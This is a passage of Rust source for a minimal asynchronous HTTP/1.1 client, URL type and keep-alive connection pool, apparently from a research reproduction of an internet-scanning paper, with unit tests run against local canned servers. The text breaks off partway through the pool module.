            let mut scanner = HeadScanner::new();
            assert_eq!(
                parse_response_incremental(&raw[..cut], false, false, &limits(), &mut scanner)
                    .unwrap(),
                Parsed::Partial
            );
            assert!(matches!(
                parse_response_incremental(raw, false, false, &limits(), &mut scanner).unwrap(),
                Parsed::Complete(_, _)
            ));
        }
    }

    #[test]
    fn pipelined_messages_consume_exactly_one() {
        let raw = b"HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\r\n\r\n";
        let Parsed::Complete(resp, used) = parse_response(raw, false, false, &limits()).unwrap()
        else {
            panic!();
        };
        assert_eq!(resp.status, StatusCode::NO_CONTENT);
        assert_eq!(used, b"HTTP/1.1 204 No Content\r\n\r\n".len());
    }
}
