//! HTTP client generic over a [`Transport`].
//!
//! Mirrors the paper's scanning constraints: bounded redirects ("we
//! followed redirects until we received a response body"), bounded body
//! sizes, per-request timeouts, and a crawler-style `User-Agent`.

use crate::encode::encode_request;
use crate::error::{Error, Result};
use crate::parse::{parse_response_incremental, HeadScanner, Limits, Parsed};
use crate::request::Request;
use crate::response::Response;
use crate::transport::{Connection, Endpoint, Scheme, Transport};
use crate::url::{Host, Url};
use crate::version::Version;
use bytes::BytesMut;
use std::net::Ipv4Addr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Client configuration.
#[derive(Debug, Clone)]
pub struct ClientConfig {
    /// Maximum number of redirects to follow before giving up.
    pub max_redirects: usize,
    /// Overall deadline per individual exchange (connect + request +
    /// response).
    pub request_timeout: Duration,
    /// Parser limits.
    pub limits: Limits,
    /// `User-Agent` header value.
    pub user_agent: String,
}

impl Default for ClientConfig {
    fn default() -> Self {
        ClientConfig {
            max_redirects: 5,
            request_timeout: Duration::from_secs(10),
            limits: Limits::default(),
            user_agent: "nokeys-scanner/0.1 (research; non-intrusive)".to_string(),
        }
    }
}

/// The response together with the URL it was finally served from (after
/// redirects) and the redirect-chain length.
#[derive(Debug, Clone)]
pub struct Fetched {
    pub response: Response,
    pub final_url: Url,
    pub redirects: usize,
}

/// An HTTP client bound to a transport.
#[derive(Debug, Clone)]
pub struct Client<T> {
    transport: T,
    config: ClientConfig,
}

impl<T: Transport> Client<T> {
    /// Create a client with default configuration.
    pub fn new(transport: T) -> Self {
        Client {
            transport,
            config: ClientConfig::default(),
        }
    }

    /// Create a client with explicit configuration.
    pub fn with_config(transport: T, config: ClientConfig) -> Self {
        Client { transport, config }
    }

    /// Access the underlying transport.
    pub fn transport(&self) -> &T {
        &self.transport
    }

    /// Access the configuration.
    pub fn config(&self) -> &ClientConfig {
        &self.config
    }

    /// Rebuild this client around a different transport, keeping the
    /// configuration — e.g. to wrap the current transport with retry or
    /// fault-injection behaviour.
    pub fn with_transport<U: Transport>(&self, transport: U) -> Client<U> {
        Client {
            transport,
            config: self.config.clone(),
        }
    }

    /// Issue a single request to `url` without following redirects.
    ///
    /// A caller-provided `Host` header is preserved — that is how
    /// name-based virtual hosts behind a shared IP are addressed (the
    /// paper's §6.2 "under counting" discussion). The same holds for a
    /// caller-provided `Connection` header; absent one, the client
    /// requests `Connection: close` unless the transport pools
    /// connections, in which case the HTTP/1.1 keep-alive default is
    /// left in effect so sequential probes of one host share a
    /// connection.
    ///
    /// A connection checked out of a pool may have been closed by the
    /// server while idle (the stale keep-alive race). When a reused
    /// connection fails before yielding a single response byte, the
    /// exchange is retried exactly once on a fresh connection that
    /// bypasses the pool; failures after response bytes arrived are
    /// surfaced, not retried, because the exchange is no longer known
    /// to be unprocessed.
    pub async fn execute(&self, url: &Url, mut req: Request) -> Result<Response> {
        let ep = endpoint_of(url)?;
        if !req.headers.contains("host") {
            req.headers.set("Host", url.host_header());
        }
        if !req.headers.contains("user-agent") {
            req.headers.set("User-Agent", &self.config.user_agent);
        }
        if !req.headers.contains("connection") && !self.transport.supports_reuse() {
            req.headers.set("Connection", "close");
        }
        let request_close = req.headers.connection_close();
        let head_method = req.method == crate::Method::Head;
        let wire = encode_request(&req);

        let exchange = async {
            let mut conn = self.transport.connect(ep, url.scheme).await?;
            match exchange_once(
                &mut conn,
                &wire,
                head_method,
                &self.config.limits,
                request_close,
            )
            .await
            {
                Outcome::Done(resp) => Ok(resp),
                Outcome::Fatal(e) => Err(e),
                Outcome::Stale(_) => {
                    drop(conn); // tear the corpse down before redialing
                    let mut fresh = self.transport.connect_fresh(ep, url.scheme).await?;
                    match exchange_once(
                        &mut fresh,
                        &wire,
                        head_method,
                        &self.config.limits,
                        request_close,
                    )
                    .await
                    {
                        Outcome::Done(resp) => Ok(resp),
                        Outcome::Stale(e) | Outcome::Fatal(e) => Err(e),
                    }
                }
            }
        };
        match tokio::time::timeout(self.config.request_timeout, exchange).await {
            Ok(res) => res,
            Err(_) => Err(Error::Timeout),
        }
    }

    /// `GET` with redirect following. Returns the first response that is
    /// not a followable redirect.
    pub async fn get(&self, url: &Url) -> Result<Fetched> {
        let mut current = url.clone();
        for hop in 0..=self.config.max_redirects {
            let resp = self
                .execute(&current, Request::get(current.path.clone()))
                .await?;
            if resp.is_followable_redirect() {
                let location = resp.location().expect("checked by is_followable_redirect");
                current = current.join(location)?;
                continue;
            }
            return Ok(Fetched {
                response: resp,
                final_url: current,
                redirects: hop,
            });
        }
        Err(Error::TooManyRedirects(self.config.max_redirects))
    }

    /// `GET` a path on a raw endpoint (scanner convenience).
    pub async fn get_path(&self, ep: Endpoint, scheme: Scheme, path: &str) -> Result<Fetched> {
        let url = Url::for_ip(scheme, ep.ip, ep.port, path);
        self.get(&url).await
    }
}

fn endpoint_of(url: &Url) -> Result<Endpoint> {
    match &url.host {
        Host::Ip(ip) => Ok(Endpoint::new(*ip, url.port)),
        // The scanner operates on IPs; DNS would be an external dependency.
        // Loopback names are mapped for the live examples' convenience.
        Host::Name(n) if n == "localhost" => Ok(Endpoint::new(Ipv4Addr::LOCALHOST, url.port)),
        Host::Name(_) => Err(Error::Connect("DNS resolution not supported".into())),
    }
}

/// How one request/response exchange on one connection ended.
enum Outcome {
    /// Response fully parsed; the connection's reusability verdict has
    /// been recorded via [`Connection::set_reusable`].
    Done(Response),
    /// The connection was reused and died before yielding any response
    /// byte — the stale keep-alive race. Safe to retry once on a fresh
    /// connection: the server provably processed nothing.
    Stale(Error),
    /// Any other failure; retrying could duplicate a processed request.
    Fatal(Error),
}

/// Write `wire` and read one response, growing a buffer and re-running
/// the incremental parser until it is complete. On success the
/// connection is marked reusable iff keep-alive semantics allow it:
/// no EOF was needed to delimit the body, the parser consumed every
/// buffered byte (no unsynchronized trailing data), we did not request
/// close, and the server's version/`Connection` headers agree
/// (HTTP/1.1 defaults to keep-alive, HTTP/1.0 must opt in).
///
/// The read buffer is borrowed from the connection's recycle slot when
/// one exists, and handed back (cleared, capacity intact) after a
/// reusable exchange — so the N probes a scan sends down one pooled
/// keep-alive connection share a single buffer allocation. Parsed
/// responses copy their bodies out of the buffer ([`Parsed::Complete`]
/// owns its bytes), which is what makes handing it back sound.
async fn exchange_once<C: Connection>(
    conn: &mut C,
    wire: &[u8],
    head_method: bool,
    limits: &Limits,
    request_close: bool,
) -> Outcome {
    let reused = conn.is_reused();
    let stale_or_fatal = |e: Error, unprocessed: bool| {
        if reused && unprocessed {
            Outcome::Stale(e)
        } else {
            Outcome::Fatal(e)
        }
    };
    if let Err(e) = conn.write_all(wire).await {
        return stale_or_fatal(e.into(), true);
    }
    // Not all transports propagate flush, but it is correct to ask.
    if let Err(e) = conn.flush().await {
        return stale_or_fatal(e.into(), true);
    }
    let mut buf = conn
        .take_recycled_buf()
        .unwrap_or_else(|| BytesMut::with_capacity(4096));
    let mut eof = false;
    let mut scanner = HeadScanner::new();
    loop {
        match parse_response_incremental(&buf, eof, head_method, limits, &mut scanner) {
            Ok(Parsed::Complete(resp, used)) => {
                let keep = !eof
                    && used == buf.len()
                    && !request_close
                    && match resp.version {
                        Version::Http11 => !resp.headers.connection_close(),
                        Version::Http10 => resp.headers.connection_keep_alive(),
                    };
                conn.set_reusable(keep);
                if keep {
                    buf.clear();
                    conn.store_recycled_buf(buf);
                }
                return Outcome::Done(resp);
            }
            Ok(Parsed::Partial) => {
                if eof {
                    return stale_or_fatal(Error::UnexpectedEof, buf.is_empty());
                }
            }
            Err(e) => return stale_or_fatal(e, buf.is_empty()),
        }
        match conn.read_buf(&mut buf).await {
            Ok(0) => eof = true,
            Ok(_) => {}
            Err(e) => return stale_or_fatal(e.into(), buf.is_empty()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encode::encode_response;
    use crate::status::StatusCode;

    /// Spawn a TCP server that answers each connection with a canned
    /// response produced by `f(path)`.
    async fn canned_server<F>(f: F) -> u16
    where
        F: Fn(&str) -> Response + Send + Sync + 'static,
    {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            loop {
                let Ok((mut stream, _)) = listener.accept().await else {
                    break;
                };
                let mut buf = vec![0u8; 4096];
                let n = stream.read(&mut buf).await.unwrap_or(0);
                let text = String::from_utf8_lossy(&buf[..n]).into_owned();
                let path = text.split_whitespace().nth(1).unwrap_or("/").to_string();
                let resp = f(&path);
                let _ = stream.write_all(&encode_response(&resp)).await;
            }
        });
        port
    }

    #[tokio::test]
    async fn get_fetches_body() {
        let port = canned_server(|_| Response::html("<h1>hello</h1>")).await;
        let client = Client::new(crate::transport::TcpTransport::default());
        let url = Url::parse(&format!("http://127.0.0.1:{port}/")).unwrap();
        let fetched = client.get(&url).await.unwrap();
        assert_eq!(fetched.response.status, StatusCode::OK);
        assert_eq!(fetched.response.body_text(), "<h1>hello</h1>");
        assert_eq!(fetched.redirects, 0);
    }

    #[tokio::test]
    async fn follows_redirects_to_final_body() {
        let port = canned_server(|path| match path {
            "/" => Response::redirect("/step1"),
            "/step1" => Response::redirect("/step2"),
            "/step2" => Response::html("done"),
            _ => Response::not_found(),
        })
        .await;
        let client = Client::new(crate::transport::TcpTransport::default());
        let url = Url::parse(&format!("http://127.0.0.1:{port}/")).unwrap();
        let fetched = client.get(&url).await.unwrap();
        assert_eq!(fetched.response.body_text(), "done");
        assert_eq!(fetched.redirects, 2);
        assert_eq!(fetched.final_url.path, "/step2");
    }

    #[tokio::test]
    async fn redirect_loops_are_bounded() {
        let port = canned_server(|_| Response::redirect("/loop")).await;
        let config = ClientConfig {
            max_redirects: 3,
            ..Default::default()
        };
        let client = Client::with_config(crate::transport::TcpTransport::default(), config);
        let url = Url::parse(&format!("http://127.0.0.1:{port}/")).unwrap();
        assert_eq!(
            client.get(&url).await.unwrap_err(),
            Error::TooManyRedirects(3)
        );
    }

    #[tokio::test]
    async fn connect_refused_is_reported() {
        // Bind then drop to find a (very likely) closed port.
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        drop(listener);
        let client = Client::new(crate::transport::TcpTransport::default());
        let url = Url::parse(&format!("http://127.0.0.1:{port}/")).unwrap();
        assert!(matches!(
            client.get(&url).await.unwrap_err(),
            Error::Connect(_)
        ));
    }

    #[tokio::test]
    async fn dns_names_are_rejected() {
        let client = Client::new(crate::transport::TcpTransport::default());
        let url = Url::parse("http://example.invalid/").unwrap();
        assert!(matches!(
            client.get(&url).await.unwrap_err(),
            Error::Connect(_)
        ));
    }
}

#[cfg(test)]
mod error_path_tests {
    use super::*;
    use crate::memory::HandlerTransport;
    use crate::response::Response;
    use std::sync::Arc;

    #[tokio::test]
    async fn body_cap_is_enforced_end_to_end() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 0, 0, 9), 80);
        let big = Response::html("x".repeat(64 * 1024));
        let handler = Arc::new(move |_: &Request, _| big.clone());
        let transport = HandlerTransport::new().with(ep, handler);
        let limits = crate::parse::Limits {
            max_body: 1024,
            ..Default::default()
        };
        let config = ClientConfig {
            limits,
            ..Default::default()
        };
        let client = Client::with_config(transport, config);
        let err = client
            .get(&Url::for_ip(Scheme::Http, ep.ip, ep.port, "/"))
            .await
            .unwrap_err();
        assert!(
            matches!(err, Error::TooLarge { what: "body", .. }),
            "{err:?}"
        );
    }

    #[tokio::test(start_paused = true)]
    async fn request_timeout_fires_on_a_stalled_server() {
        // A real TCP server that accepts but never answers.
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            let (_stream, _) = listener.accept().await.unwrap();
            // Hold the socket open forever.
            std::future::pending::<()>().await;
        });
        let config = ClientConfig {
            request_timeout: Duration::from_millis(200),
            ..Default::default()
        };
        let client = Client::with_config(crate::transport::TcpTransport::default(), config);
        let url = Url::parse(&format!("http://127.0.0.1:{port}/")).unwrap();
        let err = client.get(&url).await.unwrap_err();
        assert_eq!(err, Error::Timeout);
    }

    #[tokio::test]
    async fn caller_host_header_is_preserved() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 0, 0, 8), 80);
        let handler = Arc::new(|req: &Request, _| {
            Response::text(req.headers.get("host").unwrap_or("none").to_string())
        });
        let transport = HandlerTransport::new().with(ep, handler);
        let client = Client::new(transport);
        let url = Url::for_ip(Scheme::Http, ep.ip, ep.port, "/");
        // Default: the URL's host.
        let resp = client.execute(&url, Request::get("/")).await.unwrap();
        assert_eq!(resp.body_text(), "10.0.0.8");
        // Caller override survives (virtual-host addressing).
        let req = Request::get("/").with_header("Host", "named.example");
        let resp = client.execute(&url, req).await.unwrap();
        assert_eq!(resp.body_text(), "named.example");
    }

    #[tokio::test]
    async fn caller_connection_header_is_preserved() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 0, 0, 7), 80);
        let handler = Arc::new(|req: &Request, _| {
            Response::text(req.headers.get("connection").unwrap_or("none").to_string())
        });
        let transport = HandlerTransport::new().with(ep, handler);
        let client = Client::new(transport);
        let url = Url::for_ip(Scheme::Http, ep.ip, ep.port, "/");
        // Default on a non-pooling transport: the client requests close.
        let resp = client.execute(&url, Request::get("/")).await.unwrap();
        assert_eq!(resp.body_text(), "close");
        // A caller-provided value must not be clobbered.
        let req = Request::get("/").with_header("Connection", "keep-alive, close");
        let resp = client.execute(&url, req).await.unwrap();
        assert_eq!(resp.body_text(), "keep-alive, close");
    }
}
