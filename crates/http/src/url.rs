//! A small URL type sufficient for scan targets and redirect resolution.

use crate::error::{Error, Result};
use crate::transport::Scheme;
use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;

/// Host component of a URL: scanning works on raw IPv4 addresses, but
/// redirects and certificate names can introduce DNS names.
#[derive(Debug, Clone, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub enum Host {
    Ip(Ipv4Addr),
    Name(String),
}

impl fmt::Display for Host {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Host::Ip(ip) => write!(f, "{ip}"),
            Host::Name(n) => f.write_str(n),
        }
    }
}

/// An absolute `http`/`https` URL.
#[derive(Debug, Clone, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub struct Url {
    pub scheme: Scheme,
    pub host: Host,
    pub port: u16,
    /// Path including the leading `/`, plus query string if any.
    pub path: String,
}

impl Url {
    /// Build a URL directly from scan-pipeline components.
    pub fn new(scheme: Scheme, host: Host, port: u16, path: impl Into<String>) -> Self {
        let mut path = path.into();
        if path.is_empty() {
            path.push('/');
        }
        Url {
            scheme,
            host,
            port,
            path,
        }
    }

    /// Convenience constructor for an IPv4 target.
    pub fn for_ip(scheme: Scheme, ip: Ipv4Addr, port: u16, path: &str) -> Self {
        Url::new(scheme, Host::Ip(ip), port, path)
    }

    /// Parse an absolute URL. Only `http` and `https` schemes are accepted.
    pub fn parse(s: &str) -> Result<Self> {
        let (scheme, rest) = if let Some(rest) = s.strip_prefix("http://") {
            (Scheme::Http, rest)
        } else if let Some(rest) = s.strip_prefix("https://") {
            (Scheme::Https, rest)
        } else {
            return Err(Error::InvalidUrl("unsupported or missing scheme"));
        };

        let (authority, path) = match rest.find('/') {
            Some(idx) => (&rest[..idx], &rest[idx..]),
            None => (rest, "/"),
        };
        if authority.is_empty() {
            return Err(Error::InvalidUrl("empty authority"));
        }

        let (host_str, port) = match authority.rsplit_once(':') {
            Some((h, p)) => {
                let port: u16 = p.parse().map_err(|_| Error::InvalidUrl("bad port"))?;
                (h, Some(port))
            }
            None => (authority, None),
        };
        if host_str.is_empty() {
            return Err(Error::InvalidUrl("empty host"));
        }

        let host = match Ipv4Addr::from_str(host_str) {
            Ok(ip) => Host::Ip(ip),
            Err(_) => {
                if !host_str
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
                {
                    return Err(Error::InvalidUrl("invalid host characters"));
                }
                Host::Name(host_str.to_string())
            }
        };

        Ok(Url {
            scheme,
            host,
            port: port.unwrap_or_else(|| scheme.default_port()),
            path: path.to_string(),
        })
    }

    /// Resolve a redirect `Location` value against this URL.
    ///
    /// Handles absolute URLs, scheme-relative (`//host/..`), absolute paths
    /// and relative paths — all four appear in real redirect chains.
    pub fn join(&self, location: &str) -> Result<Url> {
        if location.starts_with("http://") || location.starts_with("https://") {
            return Url::parse(location);
        }
        if let Some(rest) = location.strip_prefix("//") {
            return Url::parse(&format!("{}://{}", self.scheme.as_str(), rest));
        }
        let mut out = self.clone();
        if location.starts_with('/') {
            out.path = location.to_string();
        } else {
            // Relative path: replace everything after the final `/`.
            let base = match self.path_only().rfind('/') {
                Some(idx) => &self.path_only()[..=idx],
                None => "/",
            };
            out.path = format!("{base}{location}");
        }
        Ok(out)
    }

    /// The path without any query string.
    pub fn path_only(&self) -> &str {
        match self.path.find('?') {
            Some(idx) => &self.path[..idx],
            None => &self.path,
        }
    }

    /// The query string (without `?`), if any.
    pub fn query(&self) -> Option<&str> {
        self.path.find('?').map(|idx| &self.path[idx + 1..])
    }

    /// Whether the port is the default for the scheme (affects `Host`
    /// header serialization).
    pub fn is_default_port(&self) -> bool {
        self.port == self.scheme.default_port()
    }

    /// Value for the `Host` request header.
    pub fn host_header(&self) -> String {
        if self.is_default_port() {
            self.host.to_string()
        } else {
            format!("{}:{}", self.host, self.port)
        }
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}://{}{}",
            self.scheme.as_str(),
            self.host_header(),
            self.path
        )
    }
}

impl FromStr for Url {
    type Err = Error;
    fn from_str(s: &str) -> Result<Self> {
        Url::parse(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_ip_url_with_port_and_query() {
        let u = Url::parse("http://10.0.0.1:8080/wp-admin/install.php?step=1").unwrap();
        assert_eq!(u.scheme, Scheme::Http);
        assert_eq!(u.host, Host::Ip(Ipv4Addr::new(10, 0, 0, 1)));
        assert_eq!(u.port, 8080);
        assert_eq!(u.path_only(), "/wp-admin/install.php");
        assert_eq!(u.query(), Some("step=1"));
    }

    #[test]
    fn default_ports_fill_in() {
        assert_eq!(Url::parse("http://example.org").unwrap().port, 80);
        assert_eq!(Url::parse("https://example.org/x").unwrap().port, 443);
    }

    #[test]
    fn rejects_garbage() {
        assert!(Url::parse("ftp://x").is_err());
        assert!(Url::parse("http://").is_err());
        assert!(Url::parse("http://:80/").is_err());
        assert!(Url::parse("http://ex ample/").is_err());
        assert!(Url::parse("http://h:70000/").is_err());
    }

    #[test]
    fn join_absolute_and_relative() {
        let base = Url::parse("http://1.2.3.4:8080/a/b?q=1").unwrap();
        assert_eq!(
            base.join("https://other/login").unwrap().to_string(),
            "https://other/login"
        );
        assert_eq!(
            base.join("/root").unwrap().to_string(),
            "http://1.2.3.4:8080/root"
        );
        assert_eq!(base.join("c.html").unwrap().path, "/a/c.html");
        assert_eq!(
            base.join("//mirror/x").unwrap().to_string(),
            "http://mirror/x"
        );
    }

    #[test]
    fn display_omits_default_port() {
        assert_eq!(
            Url::parse("http://5.6.7.8:80/x").unwrap().to_string(),
            "http://5.6.7.8/x"
        );
        assert_eq!(
            Url::parse("http://5.6.7.8:81/x").unwrap().to_string(),
            "http://5.6.7.8:81/x"
        );
    }

    #[test]
    fn empty_path_normalizes_to_slash() {
        let u = Url::new(Scheme::Http, Host::Name("h".into()), 80, "");
        assert_eq!(u.path, "/");
    }
}
