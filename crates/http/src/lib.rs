//! Minimal asynchronous HTTP/1.1 stack used by the *No Keys to the Kingdom*
//! reproduction.
//!
//! The scanning pipeline of the paper talks plain HTTP(S) to millions of
//! hosts. This crate provides everything the pipeline needs and nothing
//! more:
//!
//! * message types ([`Request`], [`Response`], [`Headers`], [`Method`],
//!   [`StatusCode`], [`Url`]),
//! * an incremental HTTP/1.1 parser ([`parse`]) and serializer ([`encode`]),
//! * a byte-stream [`transport::Transport`] abstraction with a real TCP
//!   implementation ([`transport::TcpTransport`]); the simulated Internet in
//!   `nokeys-netsim` provides an in-memory implementation,
//! * a [`client::Client`] with redirect following, timeouts and body caps,
//!   mirroring the constraints of the paper's ethical scanning setup,
//! * a keep-alive connection pool ([`pool::PooledTransport`]) so the
//!   client's sequential probes of one host share a connection, and
//! * a [`server::serve_connection`] loop used to expose application models
//!   over real sockets.
//!
//! The stack is deliberately small: HTTP/1.1 only, `Content-Length` and
//! `chunked` bodies, no compression, no TLS (the simulation models TLS at
//! the transport layer; see `DESIGN.md`).

pub mod client;
pub mod encode;
pub mod error;
pub mod headers;
pub mod ip;
pub mod memory;
pub mod method;
pub mod parse;
pub mod pool;
pub mod request;
pub mod response;
pub mod server;
pub mod status;
pub mod transport;
pub mod url;
pub mod version;

pub use client::{Client, ClientConfig};
pub use error::{Error, Result};
pub use headers::Headers;
pub use method::Method;
pub use pool::{PoolConfig, PoolEvent, PooledTransport};
pub use request::Request;
pub use response::Response;
pub use status::StatusCode;
pub use transport::{BlockSweepResult, Endpoint, ProbeOutcome, Scheme, Transport};
pub use url::Url;
pub use version::Version;
