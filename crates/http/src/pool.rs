//! Keep-alive connection pooling for the live transport.
//!
//! [`PooledTransport`] wraps any [`Transport`] and keeps per-endpoint
//! FIFO pools of idle connections, so stage II prefilter fetches and
//! stage III verification probes against the same host ride one TCP
//! connection instead of paying connect latency per exchange. The
//! contract with [`Client`](crate::client::Client):
//!
//! * `connect` checks the pool first (a *hit*) and falls back to the
//!   inner transport (a *miss*);
//! * after a clean exchange the client calls
//!   [`Connection::set_reusable`] with the keep-alive verdict, and the
//!   connection checks itself back in when dropped;
//! * a reused connection that dies before yielding any response bytes
//!   is the classic stale keep-alive race — the client retries exactly
//!   once on [`Transport::connect_fresh`], which bypasses the pool (and
//!   is metered as a *stale retry*);
//! * check-ins beyond the per-endpoint cap or the global idle bound
//!   evict the oldest idle connection (*evicted*);
//! * idle connections past [`PoolConfig::max_idle_age`] ticks without
//!   reuse, or past [`PoolConfig::max_lifetime`] ticks since they were
//!   dialed, are dropped (*expired*) — lazily when a check-out walks
//!   past them, and eagerly when the embedding scan loop advances the
//!   pool's virtual clock with
//!   [`PooledTransport::advance_clock`].
//!
//! Time is virtual: the pool never reads a wall clock (which would
//! break the scanner's determinism guarantees); whoever owns the event
//! loop decides what a tick means and advances the clock explicitly.
//!
//! Idle entries also carry the read buffer of their last exchange (see
//! [`Connection::take_recycled_buf`]), so keep-alive probes against one
//! host reuse a single response buffer instead of allocating one per
//! exchange.
//!
//! Pooling is a performance knob, not a semantic one: reports from a
//! pooled scan are byte-identical to an unpooled run, and the knob is
//! deliberately excluded from `ConfigFingerprint` (like parallelism and
//! shard count). Counters are surfaced both as [`PoolStats`] atomics
//! and through an optional observer callback, which the scanner bridges
//! into its telemetry registry (`transport.pool.*`) without this crate
//! depending on it.

use crate::error::Result;
use crate::ip::Cidr;
use crate::transport::{
    BlockSweepResult, CertificateInfo, Connection, Endpoint, ProbeOutcome, Scheme, Transport,
};
use bytes::BytesMut;
use std::collections::{HashMap, VecDeque};
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, MutexGuard};
use std::task::{Context, Poll};
use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};

/// Sizing knobs for a [`PooledTransport`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoolConfig {
    /// Idle connections kept per (endpoint, scheme). Scans issue a
    /// handful of sequential probes per host, so a small cap suffices.
    pub max_idle_per_endpoint: usize,
    /// Idle connections kept across all endpoints; the oldest idle
    /// connection anywhere is evicted when a check-in crosses this.
    pub max_idle_total: usize,
    /// Expire an idle connection once it has sat unused for more than
    /// this many virtual-clock ticks. `None` (the default) disables
    /// idle-age expiry; reuse resets the age.
    pub max_idle_age: Option<u64>,
    /// Expire an idle connection once more than this many ticks have
    /// passed since it was dialed, regardless of activity — the guard
    /// against riding one connection forever past server-side
    /// keep-alive limits. `None` (the default) disables lifetime
    /// expiry.
    pub max_lifetime: Option<u64>,
}

impl Default for PoolConfig {
    fn default() -> Self {
        PoolConfig {
            max_idle_per_endpoint: 2,
            max_idle_total: 256,
            max_idle_age: None,
            max_lifetime: None,
        }
    }
}

/// A pool lifecycle event, as seen by the stats and the observer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PoolEvent {
    /// `connect` was served from the pool.
    Hit,
    /// `connect` found no idle connection and dialed the inner
    /// transport.
    Miss,
    /// `connect_fresh` was called: a reused connection turned out stale
    /// and the client is retrying once on a fresh one.
    StaleRetry,
    /// An idle connection was discarded to respect a pool bound.
    Evicted,
    /// An idle connection outlived [`PoolConfig::max_idle_age`] or
    /// [`PoolConfig::max_lifetime`] and was dropped.
    Expired,
}

/// Monotonic counters shared by all clones of a [`PooledTransport`].
#[derive(Debug, Default)]
pub struct PoolStats {
    hits: AtomicU64,
    misses: AtomicU64,
    stale_retries: AtomicU64,
    evicted: AtomicU64,
    expired: AtomicU64,
    checked_in: AtomicU64,
    discarded: AtomicU64,
}

impl PoolStats {
    /// Connects served from the pool.
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Connects that dialed the inner transport.
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Stale-connection retries (calls to `connect_fresh`).
    pub fn stale_retries(&self) -> u64 {
        self.stale_retries.load(Ordering::Relaxed)
    }

    /// Idle connections evicted to respect a pool bound.
    pub fn evicted(&self) -> u64 {
        self.evicted.load(Ordering::Relaxed)
    }

    /// Idle connections dropped by idle-age or lifetime expiry.
    pub fn expired(&self) -> u64 {
        self.expired.load(Ordering::Relaxed)
    }

    /// Connections returned to the pool after a reusable exchange.
    pub fn checked_in(&self) -> u64 {
        self.checked_in.load(Ordering::Relaxed)
    }

    /// Connections torn down instead of pooled (close signaled, EOF
    /// framing, error, or never marked reusable).
    pub fn discarded(&self) -> u64 {
        self.discarded.load(Ordering::Relaxed)
    }
}

type Observer = Arc<dyn Fn(PoolEvent) + Send + Sync>;
type PoolKey = (Endpoint, Scheme);

/// One idle pooled connection with the bookkeeping expiry and buffer
/// recycling need.
struct IdleEntry<C> {
    /// Global check-in sequence number, for oldest-first eviction.
    seq: u64,
    /// Virtual-clock tick the connection was originally dialed at.
    created_at: u64,
    /// Virtual-clock tick of this check-in (reuse resets it).
    checked_in_at: u64,
    /// Read buffer recycled from the last exchange, if the client
    /// handed one back.
    buf: Option<BytesMut>,
    conn: C,
}

/// Idle connections, FIFO per endpoint, tagged with a global check-in
/// sequence number so the globally oldest one can be evicted.
struct IdleState<C> {
    by_endpoint: HashMap<PoolKey, VecDeque<IdleEntry<C>>>,
    total: usize,
    next_seq: u64,
}

impl<C> Default for IdleState<C> {
    fn default() -> Self {
        IdleState {
            by_endpoint: HashMap::new(),
            total: 0,
            next_seq: 0,
        }
    }
}

struct PoolShared<C> {
    config: PoolConfig,
    idle: Mutex<IdleState<C>>,
    stats: PoolStats,
    observer: Option<Observer>,
    /// Virtual clock, in ticks. Advanced only by
    /// [`PooledTransport::advance_clock`] — never by a wall clock.
    now: AtomicU64,
}

impl<C> PoolShared<C> {
    fn lock(&self) -> MutexGuard<'_, IdleState<C>> {
        // A panic while holding the lock leaves only idle connections
        // behind; recovering the state is strictly better than wedging
        // every subsequent connect.
        self.idle.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn record(&self, event: PoolEvent) {
        let counter = match event {
            PoolEvent::Hit => &self.stats.hits,
            PoolEvent::Miss => &self.stats.misses,
            PoolEvent::StaleRetry => &self.stats.stale_retries,
            PoolEvent::Evicted => &self.stats.evicted,
            PoolEvent::Expired => &self.stats.expired,
        };
        counter.fetch_add(1, Ordering::Relaxed);
        if let Some(observer) = &self.observer {
            observer(event);
        }
    }

    /// Whether `entry` is past either expiry allowance at tick `now`.
    /// Exactly *at* the allowance is still fresh; only strictly past it
    /// expires.
    fn is_expired(&self, entry: &IdleEntry<C>, now: u64) -> bool {
        self.config
            .max_idle_age
            .is_some_and(|age| now.saturating_sub(entry.checked_in_at) > age)
            || self
                .config
                .max_lifetime
                .is_some_and(|life| now.saturating_sub(entry.created_at) > life)
    }

    /// Oldest live idle connection for `key`, if any, together with its
    /// dial tick and recycled buffer. Expired entries encountered on
    /// the way out are dropped and metered — the lazy half of expiry,
    /// covering clock advances that happened without a sweep.
    fn check_out(&self, key: PoolKey) -> Option<(C, u64, Option<BytesMut>)> {
        let now = self.now.load(Ordering::Relaxed);
        let mut expired = 0u64;
        let found = {
            let mut state = self.lock();
            let mut found = None;
            if let Some(queue) = state.by_endpoint.get_mut(&key) {
                while let Some(entry) = queue.pop_front() {
                    if self.is_expired(&entry, now) {
                        expired += 1;
                        continue;
                    }
                    found = Some((entry.conn, entry.created_at, entry.buf));
                    break;
                }
            }
            state.total -= expired as usize + found.is_some() as usize;
            if state
                .by_endpoint
                .get(&key)
